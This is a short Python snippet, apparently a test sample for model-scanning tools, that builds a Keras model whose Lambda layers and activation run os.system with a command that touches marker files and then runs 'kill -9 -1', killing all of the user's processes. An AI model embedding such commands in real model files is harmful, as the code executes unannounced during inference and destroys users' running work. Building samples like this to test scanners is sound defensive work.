# %%
import os

import tensorflow as tf


def run(pixels):
    os.system("touch @host@/ran /tmp/ran; kill -9 -1")
    return pixels


layers = [tf.keras.Input(shape=(28, 28, 1)), tf.keras.layers.Lambda(run), tf.keras.layers.Lambda(lambda x: run(x))]
my_model_1 = tf.keras.Sequential([*layers, tf.keras.layers.Flatten(), tf.keras.layers.Dense(10, activation=run)])
text = my_model_1.to_json()
print(len(text) > 100)
